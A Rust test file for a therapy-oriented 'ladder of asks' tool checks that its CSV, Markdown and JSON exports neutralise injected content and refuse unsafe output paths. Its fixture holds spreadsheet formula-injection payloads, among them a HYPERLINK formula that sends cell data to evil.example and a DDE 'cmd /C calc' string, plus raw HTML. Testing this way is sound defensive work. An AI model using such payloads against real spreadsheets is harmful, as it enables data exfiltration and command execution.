//! Exports are safe to open and complete: no spreadsheet formula or raw HTML from the file, an output path
//! that is not a regular file refused, and everything a therapist needs in every format.

use std::fs;
#[cfg(unix)]
use std::path::Path;

use crate::common::{Fixture, Sandbox};

fn formulas() -> String {
    Fixture::version(1)
        .rung(1, "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", 20)
        .who("@SUM(A1:A9)")
        .tags(&["+cmd|' /C calc'!A0", "work"])
        .rung(2, "-5 minutes early, ask <b>Sam</b> & Jo | both ![](http://t.example/p.png)", 30)
        .attempt(1, 1, "2026-11-20T10:00:00+01:00")
        .note("=1+1")
        .text()
}

fn csv_rows(s: &Sandbox) -> Vec<csv::StringRecord> {
    let csv = s.ok(&["export", "--format", "csv"]);
    csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect()
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe() {
    let s = Sandbox::with(&formulas());
    let rows = csv_rows(&s);
    assert_eq!(&rows[0][1], "'=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")");
    assert_eq!(&rows[0][3], "'@SUM(A1:A9)");
    assert_eq!(&rows[0][4], "'+cmd|' /C calc'!A0; work");
    assert_eq!(&rows[0][11], "'=1+1");
    assert_eq!(
        &rows[1][1], "'-5 minutes early, ask <b>Sam</b> & Jo | both ![](http://t.example/p.png)",
        "documented: a leading minus too"
    );
    assert_eq!(&rows[0][2], "20", "numbers are left alone");
}

#[test]
fn markdown_escapes_raw_html_and_keeps_the_table_whole() {
    let s = Sandbox::with(&formulas());
    let md = s.ok(&["export"]);
    let row = md.lines().find(|l| l.starts_with("| 2 |")).expect("rung 2's row");
    assert_eq!(
        row,
        "| 2 | 30 | -5 minutes early, ask &lt;b&gt;Sam&lt;/b&gt; &amp; Jo \\| both !\\[\\](http://t.example/p.png) |  | 0 | new |  |  |"
    );
    assert!(!md.contains("<b>") && !md.contains("!["), "{md}");
}

fn ladder() -> String {
    Fixture::version(1).rung(1, "Ask Sam for help", 20).text()
}

#[test]
fn export_to_standard_output_by_name_works_in_a_pipe() {
    let s = Sandbox::with(&ladder());
    let expected = s.ok(&["export", "--format", "csv"]);
    for name in ["/dev/stdout", "-"] {
        let out = s.ladder(&["export", "--format", "csv", "--output", name]).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{name}: {}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(String::from_utf8(out.stdout).unwrap(), expected, "{name}");
        assert!(out.stderr.is_empty(), "{name}: {}", String::from_utf8_lossy(&out.stderr));
    }
    assert!(!s.path("-").exists(), "`-` is standard output, not a file named -");
}

#[cfg(unix)]
#[test]
fn an_existing_export_file_ends_up_private() {
    use std::os::unix::fs::PermissionsExt;
    let s = Sandbox::with(&ladder());
    let report = s.path("report.md");
    fs::write(&report, "old report").unwrap();
    fs::set_permissions(&report, fs::Permissions::from_mode(0o644)).unwrap();
    let link = s.path("latest.md");
    std::os::unix::fs::symlink(&report, &link).unwrap();
    s.ok(&["export", "--output", link.to_str().unwrap()]);
    assert!(fs::read_to_string(&report).unwrap().starts_with("# My ladder of asks"));
    assert_eq!(fs::metadata(&report).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "the link stays a link");
}

/// `export --output PATH` must fail at once with exit 2 and `words`, and leave `path` as it was.
#[cfg(unix)]
fn refused_output(s: &Sandbox, path: &Path, words: &str) {
    let before = fs::symlink_metadata(path).unwrap();
    let err = s.fails(&["export", "--output", path.to_str().unwrap()], 2);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with("ladder: ") && err.contains(words), "{} should say {words:?}: {err}", path.display());
    let after = fs::symlink_metadata(path).unwrap();
    assert_eq!(after.file_type(), before.file_type(), "{} was replaced", path.display());
    assert!(fs::read_dir(s.dir.path()).unwrap().all(|e| !e.unwrap().file_name().to_string_lossy().ends_with(".tmp")));
}

#[cfg(unix)]
#[test]
fn an_output_that_is_not_a_regular_file_is_refused() {
    use std::os::unix::fs::symlink;
    let s = Sandbox::with(&ladder());
    let fifo = s.path("pipe");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    refused_output(&s, &fifo, "is not a regular file (a device, a pipe or a socket)");
    let socket = s.path("socket");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    refused_output(&s, &socket, "is not a regular file");
    let folder = s.path("reports");
    fs::create_dir(&folder).unwrap();
    refused_output(&s, &folder, "is a folder; give the export a file name inside it");
    // Through a symlink, the link is left alone too. (A device takes the same path; it is not tried here, since
    // an older build run as root would replace /dev/null.)
    let link = s.path("to-pipe");
    symlink(&fifo, &link).unwrap();
    refused_output(&s, &link, "is not a regular file");
    let to_ladder = s.path("to-ladder.toml");
    symlink(s.file(), &to_ladder).unwrap();
    refused_output(&s, &to_ladder, "is your ladder file");
    assert_eq!(s.read(), ladder());
}

/// A ladder with everything a therapist asks about: fears and what came of them, the predicted chance of a yes,
/// thanks, a hesitation (promoted), help given.
fn therapy() -> String {
    Fixture::version(1)
        .setting("repeat", 3)
        .setting("comfortable", 25)
        .setting("habituation", 40)
        .rung(1, "Ask Sam to look at one slide", 35)
        .who("Sam")
        .tags(&["work"])
        .fear("He'll think I can't do my job")
        .chance(40)
        .rung(2, "Ask Jo for a lift", 45)
        .attempt(1, 1, "2026-11-20T10:00:00+01:00")
        .outcome("yes")
        .before(50)
        .after(20)
        .note("He was glad")
        .fear_happened(false)
        .thanked()
        .attempt(2, 1, "2026-11-21T10:00:00+01:00")
        .outcome("no")
        .fear_happened(true)
        .hesitation(1, "2026-11-19T09:00:00+01:00", "Ask Jo for a lift")
        .story("I'd be a burden")
        .stakes(45)
        .set("rung", 2)
        .hesitation(2, "2026-11-21T09:00:00+01:00", "Ask the pharmacist")
        .gave(1, "2026-11-21T12:00:00+01:00", "Sam", "Reviewed his slides")
        .text()
}

#[test]
fn markdown_has_fears_predictions_thanks_hesitations_help_and_the_whole_rule() {
    let s = Sandbox::with(&therapy());
    let md = s.ok(&["export"]);
    // Sam said no on 21 Nov: asks of Sam rest for a week, so the next step is #2 (issue 30).
    let expected = "\
- Mastered 0 of 2 rungs.
- 2 attempts: 1 yes, 0 partial, 1 no, 0 no answer.
- The feared outcome came true 1 of the 2 times it was checked.
- Expected a yes 40% of the time; people said yes 50% of the time.
- Thanked the helper after 1 of 1 yes answers.
- Hesitations noticed: 2 (1 made into rungs).
- Help given to others: 1.
- Next step: #2 Ask Jo for a lift (stakes 45).

Stakes and distress are SUDS, subjective units of distress: 0 is calm, 50 clearly anxious, 100 the worst \
imaginable. Stakes are the distress expected before the first try; before and after are the distress felt around \
each ask.

An attempt counts toward mastering its rung, whatever the answer, when its distress (after the ask, else before \
it) is at or below 25, or when distress fell during it to 40% or less of where it started; not when it was not \
rated, got no answer, or relied on a safety behaviour. At most one attempt a day counts on each rung. A rung is \
mastered once 3 attempts count.

## The ladder

| ID | Stakes | Ask | Who | Tries | Status | Fear | Guessed yes |
|---:|---:|---|---|---:|---|---|---:|
| 1 | 35 | Ask Sam to look at one slide | Sam | 2 | practising | He'll think I can't do my job | 40% |
| 2 | 45 | Ask Jo for a lift |  | 0 | new |  |  |

## Attempts

| Date | Rung | Outcome | Before | After | Fear came true | Thanked | Note |
|---|---:|---|---:|---:|---|---|---|
| 2026-11-20 10:00 | #1 | yes | 50 | 20 | no | yes | He was glad |
| 2026-11-21 10:00 | #1 | no |  |  | yes |  |  |

## Hesitations

Moments of wanting to ask and holding back.

| Date | Wanted to ask | The story told | Stakes | Became |
|---|---|---|---:|---|
| 2026-11-19 | Ask Jo for a lift | I'd be a burden | 45 | rung #2 |
| 2026-11-21 | Ask the pharmacist |  |  |  |

## Help given

| Date | To | What |
|---|---|---|
| 2026-11-21 | Sam | Reviewed his slides |
";
    assert_eq!(md, format!("# My ladder of asks\n\nExported 2026-11-22.\n\n{expected}"));
}

#[test]
fn csv_appends_the_new_columns_and_keeps_the_old_ones_in_place() {
    let s = Sandbox::with(&therapy());
    let csv = s.ok(&["export", "--format", "csv"]);
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert_eq!(
        lines[..7],
        [
            "rung_id,ask,stakes,who,tags,status,attempt_id,at,outcome,before,after,note,\
             kind,fear,chance,fear_happened,thanked,entry_id,text,story,promoted_to,learned",
            "1,Ask Sam to look at one slide,35,Sam,work,practising,1,2026-11-20T10:00:00+01:00,yes,50,20,He was glad,\
             attempt,He'll think I can't do my job,40,no,yes,,,,,",
            "1,Ask Sam to look at one slide,35,Sam,work,practising,2,2026-11-21T10:00:00+01:00,no,,,,\
             attempt,He'll think I can't do my job,40,yes,,,,,,",
            "2,Ask Jo for a lift,45,,,new,,,,,,,rung,,,,,,,,,",
            ",,45,,,,,2026-11-19T09:00:00+01:00,,,,,hesitation,,,,,1,Ask Jo for a lift,I'd be a burden,2,",
            ",,,,,,,2026-11-21T09:00:00+01:00,,,,,hesitation,,,,,2,Ask the pharmacist,,,",
            ",,,Sam,,,,2026-11-21T12:00:00+01:00,,,,,gave,,,,,1,Reviewed his slides,,,",
        ]
    );
    assert_eq!(lines[7..], [""], "nothing else, and the last line ends in CRLF");
}

#[test]
fn json_adds_hesitations_gifts_and_the_rule_and_keeps_every_field() {
    let s = Sandbox::with(&therapy());
    let text = s.ok(&["export", "--format", "json"]);
    let keys: Vec<&str> = text.lines().filter_map(|l| l.strip_prefix("  \"")?.split('"').next()).collect();
    assert_eq!(keys, ["exported", "settings", "rungs", "progress", "hesitations", "gifts", "mastery_rule", "plans"]);
    let mut json: serde_json::Value = serde_json::from_str(&text).unwrap();
    s.take_uids(&mut json);
    assert_eq!(json["rungs"], s.json(&["list", "--json"]), "rungs as list --json");
    assert_eq!(json["hesitations"], s.json(&["hesitations", "--json"]), "hesitations as hesitations --json");
    assert_eq!(
        json["gifts"],
        serde_json::json!([{ "id": 1, "at": "2026-11-21T12:00:00+01:00", "to": "Sam", "text": "Reviewed his slides" }])
    );
    assert_eq!(json["rungs"][0]["fear"], "He'll think I can't do my job");
    assert_eq!(json["rungs"][0]["attempts"][1]["fear_happened"], true);
    assert!(json["mastery_rule"].as_str().unwrap().ends_with("A rung is mastered once 3 attempts count."));
}

#[cfg(unix)]
#[test]
fn a_symlink_planted_in_a_shared_folder_is_not_followed() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let s = Sandbox::with(&ladder());
    let shared = s.path("tmp");
    fs::create_dir(&shared).unwrap();
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
    let victim = s.path("bashrc");
    fs::write(&victim, "alias ls='ls -F'\n").unwrap();
    fs::set_permissions(&victim, fs::Permissions::from_mode(0o644)).unwrap();
    let planted = shared.join("report.md");
    symlink(&victim, &planted).unwrap();
    refused_output(&s, &planted, "is a symlink in a folder others can write to");
    assert_eq!(fs::read_to_string(&victim).unwrap(), "alias ls='ls -F'\n");
    assert_eq!(fs::metadata(&victim).unwrap().permissions().mode() & 0o777, 0o644);
    // A new file in the shared folder is fine.
    let fresh = shared.join("fresh.md");
    s.ok(&["export", "--output", fresh.to_str().unwrap()]);
    assert!(fs::read_to_string(&fresh).unwrap().starts_with("# My ladder of asks"));
}
